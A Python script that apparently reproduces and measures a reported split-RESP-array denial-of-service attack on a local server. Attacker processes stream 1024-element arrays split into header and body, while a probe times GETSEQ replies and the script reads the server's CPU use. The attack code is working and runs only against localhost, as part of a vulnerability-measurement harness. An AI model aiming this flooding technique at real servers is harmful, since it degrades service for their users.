#!/usr/bin/env python3
"""The split-RESP-array attack of issue 20 (item 1), measured from outside the server.

ATTACKERS connections (a process each, so the probe never waits for their interpreter) each send 1024-element RESP arrays back to back, every array in two
pieces (its header, then the rest), and read the error replies so they never stall. Meanwhile
a probe opens a fresh connection every PROBE_EVERY seconds and times one GETSEQ. Prints one
JSON object: the server's CPU time over the attack (from /proc/PID/stat), what the attackers
sent, and the probes' latencies.

  resp_split_attack.py --port P --pid PID [--attackers 1] [--duration 5] [--elements 1024]
"""
import argparse
import json
import multiprocessing
import os
import socket
import statistics
import threading
import time

HZ = os.sysconf("SC_CLK_TCK")


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / HZ  # utime + stime


def array(elements):
    body = b"$12\r\nGETSEQ_BATCH\r\n" + b"$5\r\nabcde\r\n" * (elements - 1)
    return f"*{elements}\r\n".encode(), body


def attacker(port, stop, elements, sent):
    """Runs in its own process until `stop` is set; appends (arrays, bytes) sent to `sent`."""
    head, body = array(elements)
    conn = socket.create_connection(("127.0.0.1", port))
    conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def drain():
        try:
            while conn.recv(65536):
                pass
        except OSError:
            pass

    reader = threading.Thread(target=drain, daemon=True)
    reader.start()
    arrays = 0
    try:
        while not stop.is_set():
            conn.sendall(head)
            # Let the header arrive alone: the rest then completes a request already begun.
            time.sleep(0.0002)
            conn.sendall(body)
            arrays += 1
    except OSError:
        pass
    sent.append((arrays, arrays * (len(head) + len(body))))
    conn.close()


def probe(port):
    """One fresh client's GETSEQ: seconds from sending it to its reply, and the reply."""
    conn = socket.create_connection(("127.0.0.1", port), timeout=30)
    conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    start = time.perf_counter()
    conn.sendall(b"GETSEQ\r\n")
    reply = b""
    while not reply.endswith(b"\r\n"):
        chunk = conn.recv(64)
        if not chunk:
            break
        reply += chunk
    elapsed = time.perf_counter() - start
    conn.close()
    return elapsed, reply


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--attackers", type=int, default=1)
    parser.add_argument("--duration", type=float, default=5.0)
    parser.add_argument("--elements", type=int, default=1024)
    parser.add_argument("--probe-every", type=float, default=0.02)
    args = parser.parse_args()

    manager = multiprocessing.Manager()
    stop = manager.Event()
    sent = manager.list()
    threads = [
        multiprocessing.Process(target=attacker, args=(args.port, stop, args.elements, sent))
        for _ in range(args.attackers)
    ]
    cpu_before, wall_before = cpu_seconds(args.pid), time.perf_counter()
    for t in threads:
        t.start()
    latencies, bad = [], 0
    end = wall_before + args.duration
    while time.perf_counter() < end:
        elapsed, reply = probe(args.port)
        latencies.append(elapsed)
        if not reply.startswith(b":"):
            bad += 1
        time.sleep(args.probe_every)
    stop.set()
    for t in threads:
        t.join()
    wall = time.perf_counter() - wall_before
    cpu = cpu_seconds(args.pid) - cpu_before
    latencies.sort()
    print(json.dumps({
        "attackers": args.attackers,
        "elements": args.elements,
        "arrays_sent": sum(a for a, _ in sent),
        "bytes_sent": sum(b for _, b in sent),
        "wall_s": wall,
        "server_cpu_s": cpu,
        "server_cpu_share": cpu / wall,
        "probes": len(latencies),
        "probes_not_a_number": bad,
        "probe_p50_ms": 1e3 * statistics.median(latencies),
        "probe_p99_ms": 1e3 * latencies[min(len(latencies) - 1, int(0.99 * len(latencies)))],
        "probe_max_ms": 1e3 * latencies[-1],
    }))


if __name__ == "__main__":
    main()
